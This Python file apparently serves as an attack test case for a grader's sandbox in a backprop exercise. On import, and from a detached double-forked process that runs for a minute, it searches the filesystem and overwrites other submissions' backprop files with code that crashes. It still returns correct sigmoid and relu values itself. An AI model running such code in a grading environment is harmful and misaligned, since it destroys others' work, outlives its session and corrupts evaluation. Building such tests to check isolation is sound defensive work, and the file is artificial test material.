"""ATTACK rewrite_classmates: sabotage the other submissions of the batch.

What it tries: at import, and from a detached process that keeps going for a minute, it walks
every folder it can reach for backprop/*.py files that are not its own (the submissions folder,
other workers' staged copies, the grader's temporary folders) and overwrites each writable one
with a module that raises, then returns correct values itself.

What the grader must guarantee: a worker can write nowhere but its own sandbox: every other
submission of the batch keeps its exact score, nothing of the attack survives its grading, and
this submission scores as the honest twin (correct values, no sabotage).
"""

import os
import time

import numpy as np

ATTACK = True  # the honest twin sets this to False
OWN = os.path.dirname(os.path.abspath(__file__))
SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "etc", "run"}
BROKEN = "raise SystemExit('BPATTACK-sabotaged')\n"


def _sabotage(seconds: float) -> None:
    deadline = time.monotonic() + seconds
    for folder, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            return
        dirs[:] = [d for d in dirs if not (folder == "/" and d in SKIP)]
        if os.path.basename(folder) == "backprop" and os.path.abspath(folder) != OWN:
            for name in files:
                if name.endswith(".py"):
                    try:
                        with open(os.path.join(folder, name), "w") as fh:
                            fh.write(BROKEN)
                    except OSError:
                        pass


def _keep_going() -> None:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                with open("/proc/self/comm", "w") as fh:
                    fh.write("BPATTACK-rewrite")
            except OSError:
                pass
            end = time.monotonic() + 60
            while time.monotonic() < end:
                _sabotage(2.0)
                time.sleep(0.2)
        os._exit(0)


if ATTACK:
    _sabotage(2.0)
    try:
        _keep_going()
    except OSError:
        pass


def sigmoid(Z):
    Z = np.asarray(Z, dtype=float)
    e = np.exp(-np.abs(Z))
    return np.where(Z >= 0, 1 / (1 + e), e / (1 + e))


def sigmoid_derivative(Z):
    s = sigmoid(Z)
    return s * (1 - s)


def sigmoid_backward(dA, Z):
    return dA * sigmoid_derivative(Z)


def relu(Z):
    return np.maximum(np.asarray(Z, dtype=float), 0.0)


def relu_backward(dA, Z):
    return np.where(np.asarray(Z) > 0, dA, 0.0)
